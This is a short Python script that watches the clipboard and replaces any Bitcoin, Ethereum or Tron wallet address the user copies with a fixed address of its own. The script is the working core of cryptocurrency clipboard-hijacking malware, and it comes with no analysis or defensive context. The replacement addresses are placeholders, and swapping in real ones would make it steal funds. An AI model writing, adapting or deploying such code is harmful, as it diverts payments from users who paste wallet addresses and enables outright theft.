import re
import time
import pyperclip

RULES = [
    (re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$"), "bc1qexampleexampleexampleexampleexampleexa"),
    (re.compile(r"^0x[a-fA-F0-9]{40}$"), "0x00000000000000000000000000000000DeaDBeef"),
    (re.compile(r"^T[A-Za-z1-9]{33}$"), "TExampleExampleExampleExampleExamp"),
]

prev = None
while True:
    cur = pyperclip.paste().strip()
    if cur != prev:
        for rx, mine in RULES:
            if rx.match(cur) and cur != mine:
                pyperclip.copy(mine)
                cur = mine
                break
        prev = cur
    time.sleep(0.3)
